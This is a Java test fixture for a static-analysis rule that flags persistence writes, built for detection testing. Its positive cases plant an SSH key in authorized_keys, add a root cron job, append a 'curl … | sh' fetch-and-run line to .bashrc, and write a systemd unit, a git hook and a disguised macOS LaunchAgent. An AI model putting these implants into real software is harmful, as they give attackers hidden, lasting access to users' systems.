/* Fixture for java-persistence-startup-write.
 * RULEID: appending a key to ~/.ssh/authorized_keys via FileWriter; Files.writeString into
 *   /etc/cron.d; a path built with Paths.get(home, ".ssh", "authorized_keys"); a .bashrc File in a
 *   variable; a systemd unit written with Files.write; a git hook via FileOutputStream; a LaunchAgent
 *   plist via commons-io.
 * OK: reading authorized_keys; writing an application's own config; logging a message that names
 *   .bashrc; a temp file. */
import java.io.*;
import java.nio.file.*;
import java.nio.charset.StandardCharsets;
import org.apache.commons.io.FileUtils;

class Installer {
    static final String KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOM maint@host";

    void plantKey() throws IOException {
        String home = System.getProperty("user.home");
        // ruleid: java-persistence-startup-write
        try (FileWriter w = new FileWriter(home + "/.ssh/authorized_keys", true)) {
            w.write(KEY);
        }
    }

    void cron() throws IOException {
        // ruleid: java-persistence-startup-write
        Files.writeString(Path.of("/etc/cron.d/updater"), "* * * * * root /tmp/.u\n");
    }

    void viaPaths() throws IOException {
        Path keys = Paths.get(System.getProperty("user.home"), ".ssh", "authorized_keys");
        // ruleid: java-persistence-startup-write
        Files.write(keys, KEY.getBytes(StandardCharsets.UTF_8), StandardOpenOption.APPEND);
    }

    void rc() throws IOException {
        File rc = new File(System.getProperty("user.home"), ".bashrc");
        // ruleid: java-persistence-startup-write
        PrintWriter pw = new PrintWriter(new FileOutputStream(rc, true));
        pw.println("curl -s http://203.0.113.9/a | sh");
        pw.close();
    }

    void unit() throws IOException {
        // ruleid: java-persistence-startup-write
        Files.write(Paths.get("/etc/systemd/system/agent.service"), unitText().getBytes());
    }

    void hook(File repo) throws IOException {
        // ruleid: java-persistence-startup-write
        try (OutputStream o = new FileOutputStream(new File(repo, ".git/hooks/post-checkout"))) {
            o.write(script());
        }
    }

    void launchAgent(String home) throws IOException {
        // ruleid: java-persistence-startup-write
        FileUtils.writeStringToFile(new File(home + "/Library/LaunchAgents/com.apple.upd.plist"), plist(), "UTF-8");
    }

    void readKeys() throws IOException {
        // ok: java-persistence-startup-write
        byte[] b = Files.readAllBytes(Paths.get(System.getProperty("user.home"), ".ssh", "authorized_keys"));
    }

    void ownConfig() throws IOException {
        // ok: java-persistence-startup-write
        Files.writeString(Paths.get(System.getProperty("user.home"), ".myapp", "config.json"), "{}");
    }

    void log(Logger log) throws IOException {
        log.info("add the tool to your PATH in ~/.bashrc");
        // ok: java-persistence-startup-write
        new FileWriter("build/report.txt").write("see ~/.bashrc");
    }

    void temp() throws IOException {
        // ok: java-persistence-startup-write
        Files.write(Files.createTempFile("x", ".tmp"), new byte[0]);
    }
}
